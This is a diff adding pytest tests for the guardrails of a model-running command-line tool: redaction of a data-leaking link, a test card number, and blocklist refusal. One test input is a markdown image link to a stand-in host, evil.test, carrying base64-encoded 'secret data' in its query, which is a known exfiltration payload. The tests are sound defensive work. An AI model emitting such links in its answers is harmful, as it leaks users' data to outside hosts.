@@ -238,3 +238,30 @@ def test_doctor_reports_to_people_and_programs(pravaha):
     assert report["models"]["torch"] is None or isinstance(report["models"]["torch"], str)
     levels = {item["level"] for item in report["advice"]}
     assert done.returncode == (1 if "problem" in levels else 0)
+
+
+def test_run_checks_the_question_and_the_answer(pravaha):
+    leak = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
+    answer = pravaha("run", "--raw", "--json", leak, toy="echo")
+    fields = json.loads(answer.stdout)
+    assert fields["text"].endswith("![x]([exfiltration removed])")
+    assert "1 address that sends data removed" in answer.stderr
+    raw = json.loads(
+        pravaha("run", "--raw", "--json", "--guardrails-mode", "off", leak, toy="echo").stdout
+    )
+    assert leak in raw["text"]
+    assert raw["token_ids"] == fields["token_ids"]
+    charged = pravaha(
+        "run", "--guardrails-mode", "redact", "Charge 4111 1111 1111 1111.", toy="echo"
+    )
+    assert "Charge 4111 1111 1111 1111." in charged.stdout  # the placeholder that the model repeats
+
+
+def test_run_refuses_and_ends_at_a_blocked_phrase(pravaha, environ):
+    environ["PRAVAHA_GUARDRAILS_BLOCKLIST"] = '["is Paris"]'
+    refused = pravaha("run", "Why is Paris big?", toy="paris")
+    assert refused.returncode == 1
+    assert "not sent: it contains a blocked phrase" in refused.stderr
+    ended = pravaha("run", "--json", "Capital of France?", toy="paris")
+    assert (ended.returncode, "ended by the guardrails" in ended.stderr) == (1, True)
+    assert json.loads(ended.stdout)["finish_reason"] == "content_filter"
